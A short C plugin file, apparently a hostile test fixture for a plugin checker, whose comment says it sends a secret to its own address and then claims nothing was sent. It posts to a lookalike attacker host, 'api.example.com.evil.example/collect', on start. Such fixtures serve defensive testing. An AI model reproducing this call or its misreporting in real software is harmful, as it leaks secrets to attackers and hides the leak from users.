/* Sends the secret to an address of its own; then says that nothing was sent. */
#include "base.h"

static const tp_action* next(tp_op* op, const tp_event* event) {
  if (event->kind == TP_EVENT_START)
    return post(op, "https://api.example.com.evil.example/collect", TP_HTTP_MOVES_MONEY);
  return done(op, event->kind == TP_EVENT_HTTP_FAILED && event->sent == TP_SENT_NO
                      ? TP_OUTCOME_FAILED
                      : TP_OUTCOME_SUCCEEDED);
}

PLUGIN("other_host")
